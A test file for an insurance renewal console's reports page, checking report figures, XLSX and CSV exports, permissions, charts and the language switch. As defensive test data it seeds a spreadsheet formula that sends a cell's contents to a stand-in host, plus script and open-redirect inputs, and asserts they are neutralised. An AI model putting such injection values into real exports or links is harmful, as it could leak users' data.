import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SESSION_COOKIE, LANGUAGE_COOKIE } from '../../console/server';
import { readConsoleSettings } from '../../console/settings';
import { INSURER_FIGURES_TTL_MS, InsurerFiguresMemo } from '../../console/home-charts';
import { shanghaiDate } from '../../domain/civil-date';
import { fraction, formatPercent } from '../../domain/kpis';
import { firstDayOf, monthOf } from '../../domain/months';
import { collectionCurve } from '../../reports/collection-curve';
import { dailyReport } from '../../reports/daily';
import { lapseReasonsReport } from '../../reports/lapse-reasons';
import { DEFAULT_LAPSED_LIMIT, lapsedPoliciesReport } from '../../reports/lapsed-policies';
import { weeklyReport } from '../../reports/weekly';
import { monthlyReport } from '../../reports/monthly';
import { reinstatementReport } from '../../reports/reinstatement';
import type { TabularReport } from '../../reports/report';
import { cellText, reportCsv, UTF8_BOM } from '../../reports/report-output';
import { consoleRig, signedIn, type ConsoleRig } from '../support/console';
import { freshDatabase, type TestDatabase } from '../support/database';
import { EVIL_NAME, seedReportsConsole } from '../support/reports-console';

/**
 * The reports page (docs/architecture.md#console): the CLI's report builders on screen, the CLI's
 * writers as downloads, the CLI's permission and scope rules, and the charts; on real PostgreSQL with
 * the rows of test/support/reports-console.ts.
 */
const PERIOD = 'month=2026-01&asOf=2026-03-31';
const today = shanghaiDate(Date.now());
const thisMonth = monthOf(today);

let t: TestDatabase;
let rig: ConsoleRig;

beforeAll(async () => {
  t = await freshDatabase();
  rig = await consoleRig(t.db);
  await seedReportsConsole(t.db);
});

afterAll(async () => {
  await rig?.app.close();
  await t?.drop();
});

async function get(login: string, url: string, language?: string) {
  const session = await signedIn(rig.app, login);
  return rig.app.inject({ method: 'GET', url, cookies: { [SESSION_COOKIE]: session, ...(language ? { [LANGUAGE_COOKIE]: language } : {}) } });
}

const UNESCAPE: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#39;': "'" };
const unescape = (text: string) => text.replace(/&(amp|lt|gt|quot|#39);/g, (m) => UNESCAPE[m]!);

/** The cells of the page's table for one section, row by row, as text. */
function tableOf(body: string, key: string): string[][] {
  const table = new RegExp(`<table id="section-${key}">([\\s\\S]*?)</table>`).exec(body);
  if (!table) throw new Error(`no table for section ${key}`);
  const tbody = /<tbody>([\s\S]*)<\/tbody>/.exec(table[1]!)![1]!;
  return [...tbody.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) => [...row[1]!.matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map((cell) => unescape(cell[1]!)));
}

/** The builder's report as the CLI's table prints each cell. */
function expectedCells(report: TabularReport, key: string): string[][] {
  const section = report.sections.find((s) => s.key === key)!;
  return section.rows.map((row) => section.columns.map((c) => cellText(c.kind, row[c.key] ?? null)));
}

describe('reports page', () => {
  it('lists the reports the person may have, and the nav links to it', async () => {
    const response = await get('ops-lead', '/reports');
    expect(response.statusCode).toBe(200);
    expect(response.body).toContain('<a href="/reports" aria-current="page">报表</a>');
    for (const kind of ['daily', 'weekly', 'monthly', 'lapse-reasons', 'reinstatement', 'lapsed']) expect(response.body).toContain(`action="/reports/${kind}"`);
    expect(response.body).not.toMatch(/<script(?![^>]*src="\/console\.js")/);
  });

  it('shows the monthly report with the figures of the builder the CLI uses, section by section', async () => {
    const response = await get('ops-lead', `/reports/monthly?${PERIOD}`);
    expect(response.statusCode).toBe(200);
    const built = await monthlyReport(t.db, '2026-01', { asOf: '2026-03-31' });
    expect(built.sections.length).toBeGreaterThan(3);
    for (const section of built.sections) {
      if (section.rows.length === 0) expect(response.body).toContain(`id="section-${section.key}-none"`);
      else expect(tableOf(response.body, section.key), section.key).toEqual(expectedCells(built, section.key));
    }
    // Hand-checked: 3 cases, 6000.00 due; by 当月 one case (1000.00) collected: 16.67% by premium.
    expect(tableOf(response.body, 'collection')[0]).toEqual(['当月 end of due month', '2026-01-31', 'yes', '3', '1', '33.33%', '6000.00', '1000.00', '16.67%']);
    expect(response.body).toContain('href="/reports/monthly.xlsx?month=2026-01&amp;asOf=2026-03-31"');
    expect(response.body).toContain('href="/reports/monthly.csv?month=2026-01&amp;asOf=2026-03-31"');
  });

  it('the XLSX download is the CLI writer’s workbook and parses back with the same figures; formula-like names stay text', async () => {
    const response = await get('ops-lead', `/reports/monthly.xlsx?${PERIOD}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers['content-disposition']).toBe('attachment; filename="monthly_2026-01_2026-03-31.xlsx"');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const collection = book.getWorksheet('collection')!;
    expect(collection.getRow(2).values).toEqual([undefined, '当月 end of due month', '2026-01-31', 'yes', 3, 1, 0.333333, 6000, 1000, 0.166667]);
    const product = book.getWorksheet('product')!;
    const cells = product.getColumn(2).values.filter((v) => v !== undefined && v !== null);
    expect(cells).toContain(EVIL_NAME);
    product.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('the CSV download starts with the BOM and title the CLI writer gives, and keeps formula-like names inert', async () => {
    const response = await get('ops-lead', `/reports/monthly.csv?${PERIOD}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="monthly_2026-01_2026-03-31.csv"');
    const built = await monthlyReport(t.db, '2026-01', { asOf: '2026-03-31' });
    const cli = reportCsv(built);
    expect(response.body.startsWith(UTF8_BOM)).toBe(true);
    // Everything but the generatedAt line is the CLI writer's text.
    const withoutTime = (text: string) => text.replace(/^generatedAt,.*$/m, 'generatedAt');
    expect(withoutTime(response.body)).toBe(withoutTime(cli));
    expect(response.body.split('\r\n')[0]).toBe(`${UTF8_BOM}续期收费月报 Monthly renewal collection report 2026-01`);
    expect(response.body).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""查看"")"`);
  });

  it('the daily report matches its builder too', async () => {
    const response = await get('ops-lead', '/reports/daily?date=2026-01-10');
    expect(response.statusCode).toBe(200);
    const built = await dailyReport(t.db, '2026-01-10');
    expect(tableOf(response.body, 'debits_by_bank')).toEqual(expectedCells(built, 'debits_by_bank'));
    expect(tableOf(response.body, 'debits_by_bank')).toEqual([['CCB', '0', '1', '0', '0.00%', '0.00']]);
  });

  it('a bad period is a 400 naming the field, in the person’s words; the form shows it again', async () => {
    const month = await get('ops-lead', '/reports/monthly?month=2026-13');
    expect(month.statusCode).toBe(400);
    expect(month.body).toContain('字段 month（月份（YYYY-MM））格式不正确，收到“2026-13”。');
    expect(month.body).toMatch(/id="monthly-month" name="month"[^>]*value="2026-13" aria-invalid="true"/);
    const week = await get('ops-lead', '/reports/weekly.csv?week=2026-W60', 'en');
    expect(week.statusCode).toBe(400);
    expect(week.body).toContain('Field week (ISO week (YYYY-Www)) is not valid; got &quot;2026-W60&quot;.');
    const order = await get('ops-lead', '/reports/reinstatement?from=2026-03&to=2026-01', 'en');
    expect(order.statusCode).toBe(400);
    expect(order.body).toContain('Field to (Last month (YYYY-MM)): &quot;2026-01&quot; is before the first month.');
    const long = await get('ops-lead', '/reports/reinstatement.csv?from=2016-01&to=2026-02', 'en');
    expect(long.statusCode).toBe(400);
    expect(long.body).toContain('Field to (Last month (YYYY-MM)): the period may span at most 120 months; got &quot;2026-02&quot;.');
    const asOf = await get('ops-lead', '/reports/monthly.xlsx?month=2026-03&asOf=2026-02-01');
    expect(asOf.statusCode).toBe(400);
    expect(asOf.body).toContain('字段 asOf');
    const none = await get('ops-lead', '/reports/daily.xlsx');
    expect(none.statusCode).toBe(400);
    expect(none.body).toContain('字段 date');
  });

  it('refuses roles without the report permission (403), and a scoped person the insurer’s own figures', async () => {
    expect((await get('collector', '/reports')).statusCode).toBe(403);
    expect((await get('collector', `/reports/monthly?${PERIOD}`)).statusCode).toBe(403);
    expect((await get('collector', `/reports/monthly.xlsx?${PERIOD}`)).statusCode).toBe(403);
    expect((await get('collector', '/')).body).not.toContain('href="/reports"');
    expect((await get('lead-t1', `/reports/monthly.csv?${PERIOD}`)).statusCode).toBe(403);
    expect((await get('lead-t1', '/reports/daily?date=2026-01-10')).statusCode).toBe(403);
    const index = await get('lead-t1', '/reports');
    expect(index.statusCode).toBe(200);
    expect(index.body).toContain('action="/reports/reinstatement"');
    expect(index.body).not.toContain('action="/reports/monthly"');
  });

  it('a scoped report is computed for the person’s scope and names it', async () => {
    const response = await get('lead-t1', '/reports/reinstatement?from=2026-01&to=2026-01&asOf=2026-03-31');
    expect(response.statusCode).toBe(200);
    const built = await reinstatementReport(t.db, { from: '2026-01', to: '2026-01', asOf: '2026-03-31', scopes: [{ kind: 'team', value: 'T1' }] });
    expect(tableOf(response.body, 'months')).toEqual(expectedCells(built, 'months'));
    expect(response.body).toContain('<dd data-parameter="scope">team:T1</dd>');
  });

  it('an unknown report is a 404; signed out goes to sign-in', async () => {
    expect((await get('ops-lead', '/reports/yearly')).statusCode).toBe(404);
    expect((await get('ops-lead', '/reports/monthly.pdf?month=2026-01')).statusCode).toBe(404);
    const out = await rig.app.inject({ method: 'GET', url: `/reports/monthly.xlsx?${PERIOD}` });
    expect(out.statusCode).toBe(303);
    expect(out.headers.location).toBe('/sign-in');
  });

  it('the monthly report draws its collection curve by day as inline SVG, with the figures of the monthly report as of each day', async () => {
    const response = await get('ops-lead', `/reports/monthly?${PERIOD}`);
    expect(response.body).toMatch(/<svg role="img" aria-labelledby="chart-curve-summary" width="640" height="300"/);
    expect(response.body).toContain('<p class="muted" id="chart-curve-summary">2026-01 到期保费截至每日末的当月达成率；截至 2026-01-31：按保费 16.67%，按件数 33.33%。</p>');
    // The curve's point on a day is the 当月 figure of the monthly report as of that day.
    const curve = await collectionCurve(t.db, '2026-01', '2026-03-31');
    expect(curve.points).toHaveLength(31);
    for (const day of ['2026-01-04', '2026-01-05', '2026-01-24', '2026-01-25', '2026-01-27', '2026-01-28', '2026-01-31']) {
      const asOf = await monthlyReport(t.db, '2026-01', { asOf: day });
      const point = curve.points.find((p) => p.day === day)!;
      expect({ cases: point.cases, premiumFen: point.premiumFen }).toEqual(asOf.total.collected.due_month);
    }
    const rows = tableOf(response.body.replace('id="chart-curve-table"', 'id="section-curve"'), 'curve');
    expect(rows[3]).toEqual(['2026-01-04', '0', '0.00', '0.00%', '0.00%']);
    expect(rows[4]).toEqual(['2026-01-05', '1', '1000.00', '33.33%', '16.67%']);
    // R03's payment counts from the 25th until its reversal on the 28th.
    expect(rows[24]).toEqual(['2026-01-25', '2', '4000.00', '66.67%', '66.67%']);
    expect(rows[27]).toEqual(['2026-01-28', '1', '1000.00', '33.33%', '16.67%']);
  });

  it('pages with charts keep the content security policy: no inline script, no style element or attribute', async () => {
    for (const url of [`/reports/monthly?${PERIOD}`, '/']) {
      const response = await get('ops-lead', url);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-security-policy']).toContain("script-src 'self'");
      expect(response.body).toContain('<svg role="img"');
      expect(response.body).not.toMatch(/<script(?![^>]*src="\/console\.js")/);
      expect(response.body).not.toMatch(/<style|\sstyle="/);
    }
  });

  it('home charts for an unscoped operations lead: collection rate by cut-off, debits by attempt, contacts by channel, open tasks by age', async () => {
    const body = (await get('ops-lead', '/', 'en')).body;
    const built = await monthlyReport(t.db, thisMonth, { asOf: today });
    const chartRows = (id: string) => tableOf(body.replace(`id="${id}-table"`, `id="section-${id}"`), id);
    const c = built.summary.cutoffs;
    expect(chartRows('chart-collection')).toEqual([
      ['当月 due month', formatPercent(c.due_month.byPremium), formatPercent(c.due_month.byCase), c.due_month.final ? 'yes' : 'no'],
      ['次月 next month', formatPercent(c.next_month.byPremium), formatPercent(c.next_month.byCase), 'no'],
      ['宽末 grace end', formatPercent(c.grace_end_month.byPremium), formatPercent(c.grace_end_month.byCase), 'no'],
    ]);
    // R04 of 120000 fen due this month was paid on the 1st: 41.67% by premium, 50.00% by case at every cut-off.
    expect(formatPercent(c.due_month.byPremium)).toBe('41.67%');
    expect(formatPercent(c.grace_end_month.byCase)).toBe('50.00%');
    expect(chartRows('chart-debits')).toEqual([
      ['Attempt 1', '0', '1', '0', '0', formatPercent(fraction(0, 1))],
      ['Attempt 2', '1', '0', '0', '0', '100.00%'],
    ]);
    expect(chartRows('chart-contacts')).toEqual([
      ['Phone', '0', '0', '0', '0', '1', '1'],
      ['SMS', '1', '0', '0', '0', '0', '1'],
    ]);
    expect(chartRows('chart-task-ages')).toEqual([
      ['0-1 days', '1'],
      ['2-3 days', '0'],
      ['4-7 days', '1'],
      ['8-14 days', '0'],
      ['15+ days', '1'],
    ]);
    expect(chartRows('chart-debit-banks')).toEqual([['ICBC', '2', '1', '50.00%']]);
    expect(body).toContain('Success rate at each bank: ICBC 50.00%.');
    // The month's curve: R04 (500.00 of 1200.00 due) paid on the 1st, so from the first day on.
    const curve = chartRows('chart-curve');
    expect(curve[0]).toEqual([firstDayOf(thisMonth), '1', '500.00', '50.00%', '41.67%']);
    expect(curve.at(-1)).toEqual([today, '1', '500.00', '50.00%', '41.67%']);
    expect(body).toContain('aria-labelledby="chart-collection-summary"');
  });

  it('a scoped team lead sees only the open tasks of the team by age, and is told why the insurer’s charts are not there', async () => {
    const body = (await get('lead-t1', '/')).body;
    expect(body).toContain('id="charts-insurer-only"');
    expect(body).not.toContain('id="chart-collection"');
    expect(body).not.toContain('id="chart-contacts"');
    expect(body).not.toContain('id="chart-curve"');
    const rows = tableOf(body.replace('id="chart-task-ages-table"', 'id="section-ages"'), 'ages');
    expect(rows.map((r) => r[1])).toEqual(['1', '0', '1', '0', '0']);
  });

  it('with CONSOLE_COLLECTION_TARGETS the collection chart is drawn against the targets; a bad value names the variable', async () => {
    const settings = readConsoleSettings({ RENEWALS_ENV: 'demo', DATABASE_URL: 'postgres://x/y', CONSOLE_COLLECTION_TARGETS: '85, 92.5,95' });
    expect(settings.collectionTargets).toEqual({ due_month: 85, next_month: 92.5, grace_end_month: 95 });
    const targeted = await consoleRig(t.db, { collectionTargets: settings.collectionTargets });
    try {
      const session = await signedIn(targeted.app, 'ops-lead');
      const body = (await targeted.app.inject({ method: 'GET', url: '/', cookies: { [SESSION_COOKIE]: session } })).body;
      const rows = tableOf(body.replace('id="chart-collection-table"', 'id="section-targets"'), 'targets');
      expect(rows.map((row) => [row[0], row[3]])).toEqual([
        ['当月', '85.00%'],
        ['次月', '92.50%'],
        ['宽末', '95.00%'],
      ]);
      expect(body).toContain('目标：当月 85.00%；次月 92.50%；宽末 95.00%。');
      expect(body).toMatch(/<svg role="img" aria-labelledby="chart-collection-summary"[\s\S]*?>目标<\/text>/);
    } finally {
      await targeted.app.close();
    }
    expect((await get('ops-lead', '/')).body).toContain('未设定目标（CONSOLE_COLLECTION_TARGETS）。');
    for (const bad of ['85,92', '0,90,95', '85,92,101', '85,x,95']) {
      expect(() => readConsoleSettings({ RENEWALS_ENV: 'demo', DATABASE_URL: 'postgres://x/y', CONSOLE_COLLECTION_TARGETS: bad })).toThrow(`CONSOLE_COLLECTION_TARGETS="${bad}" must be three percents`);
    }
  });

  it('home’s insurer-wide figures are computed once a minute per console process, afresh for a new day', async () => {
    const memo = new InsurerFiguresMemo();
    const now = Date.now();
    const first = memo.of(t.db, '2026-01', '2026-03-31', now);
    expect(memo.of(t.db, '2026-01', '2026-03-31', now + INSURER_FIGURES_TTL_MS - 1)).toBe(first);
    const later = memo.of(t.db, '2026-01', '2026-03-31', now + INSURER_FIGURES_TTL_MS);
    expect(later).not.toBe(first);
    const nextDay = memo.of(t.db, '2026-01', '2026-04-01', now + INSURER_FIGURES_TTL_MS);
    expect(nextDay).not.toBe(later);
    const figures = await first;
    expect(figures.monthly.total.collected.due_month).toEqual({ cases: 1, premiumFen: 100000 });
    expect(figures.curve.points.at(-1)).toEqual({ day: '2026-01-31', cases: 1, premiumFen: 100000 });
    await Promise.all([later, nextDay]);
  });

  it('the language switch on a report returns to the same report and period', async () => {
    const session = await signedIn(rig.app, 'ops-lead');
    const page = await rig.app.inject({ method: 'GET', url: `/reports/monthly?${PERIOD}`, cookies: { [SESSION_COOKIE]: session } });
    expect(page.body).toContain(`<input type="hidden" name="back" value="/reports/monthly?month=2026-01&amp;asOf=2026-03-31">`);
    expect(page.body).toContain('<a href="/reports" aria-current="page">报表</a>');
    const csrf = /name="csrf" value="([^"]+)"/.exec(page.body)![1]!;
    const post = (back: string) =>
      rig.app.inject({ method: 'POST', url: '/language', cookies: { [SESSION_COOKIE]: session }, payload: new URLSearchParams({ csrf, language: 'en', back }).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect((await post(`/reports/monthly?${PERIOD}`)).headers.location).toBe(`/reports/monthly?${PERIOD}`);
    expect((await post('/reports/monthly?month=<script>')).headers.location).toBe('/sign-in');
    expect((await post('//elsewhere.example/reports')).headers.location).toBe('/sign-in');
  });

  it('weekly, lapse-reasons, reinstatement and lapsed show every section of their builders too', async () => {
    const cases: [string, TabularReport][] = [
      ['/reports/weekly?week=2026-W02', await weeklyReport(t.db, '2026-W02')],
      ['/reports/lapse-reasons?month=2026-01', await lapseReasonsReport(t.db, '2026-01')],
      ['/reports/reinstatement?from=2026-01&to=2026-02&asOf=2026-03-31', await reinstatementReport(t.db, { from: '2026-01', to: '2026-02', asOf: '2026-03-31', scopes: [] })],
      ['/reports/lapsed?asOf=2026-03-31', await lapsedPoliciesReport(t.db, { asOf: '2026-03-31', highValueOnly: false, limit: DEFAULT_LAPSED_LIMIT, scopes: [] })],
    ];
    for (const [url, built] of cases) {
      const response = await get('ops-lead', url);
      expect(response.statusCode, url).toBe(200);
      expect(response.body, url).toContain(`<h2 id="report-title">${built.title}</h2>`);
      for (const section of built.sections) {
        if (section.rows.length === 0) expect(response.body, `${url} ${section.key}`).toContain(`id="section-${section.key}-none"`);
        else expect(tableOf(response.body, section.key), `${url} ${section.key}`).toEqual(expectedCells(built, section.key));
      }
    }
    // The week of R02's failed debit (Saturday 2026-01-10) counts it.
    expect(tableOf((await get('ops-lead', '/reports/weekly?week=2026-W02')).body, 'debits_by_bank')[0]).toEqual(['CCB', '0', '1', '0', '0.00%', '0.00']);
  });

  it('daily and weekly reports chart contacts by channel and outcome; the reinstatement report its rate by month', async () => {
    const chartRows = (body: string, id: string) => tableOf(body.replace(`id="${id}-table"`, `id="section-${id}"`), id);
    const first = firstDayOf(thisMonth);
    const daily = (await get('ops-lead', `/reports/daily?date=${first}`, 'en')).body;
    expect(daily).toContain(`<h3 id="chart-contacts-heading">Contacts in ${first}, by channel and outcome</h3>`);
    expect(chartRows(daily, 'chart-contacts')).toEqual([
      ['Phone', '0', '0', '0', '0', '1', '1'],
      ['SMS', '1', '0', '0', '0', '0', '1'],
    ]);
    expect(daily).toContain('Contacts in the period by channel: Phone 1; SMS 1.');
    const weekly = (await get('ops-lead', '/reports/weekly?week=2026-W02')).body;
    expect(weekly).toMatch(/<svg role="img" aria-labelledby="chart-contacts-summary"/);
    const reinstatement = (await get('ops-lead', '/reports/reinstatement?from=2026-01&to=2026-02&asOf=2026-03-31')).body;
    const built = await reinstatementReport(t.db, { from: '2026-01', to: '2026-02', asOf: '2026-03-31', scopes: [] });
    expect(chartRows(reinstatement, 'chart-reinstatement')).toEqual(
      built.byMonth.map((m) => [m.key, String(m.figures.suspended.cases), String(m.figures.reinstated.cases), formatPercent(m.figures.rate.byCase), formatPercent(m.figures.rate.byPremium)]),
    );
    expect(chartRows(reinstatement, 'chart-reinstatement').map((row) => row[0])).toEqual(['2026-01', '2026-02']);
  });

  it('the lapse-reasons report charts the reasons with cases, top three starred, in the person’s language', async () => {
    const body = (await get('ops-lead', '/reports/lapse-reasons?month=2026-03')).body;
    expect(tableOf(body.replace('id="chart-lapse-reasons-table"', 'id="section-reasons-chart"'), 'reasons-chart')).toEqual([['★ 8 暂时经济困难', '1', '100.00%']]);
    expect(body).toMatch(/<svg role="img" aria-labelledby="chart-lapse-reasons-summary"/);
    const english = (await get('ops-lead', '/reports/lapse-reasons?month=2026-03', 'en')).body;
    expect(english).toContain('Cases by non-payment reason: ★ 8 Temporary financial difficulty 1.');
  });
});
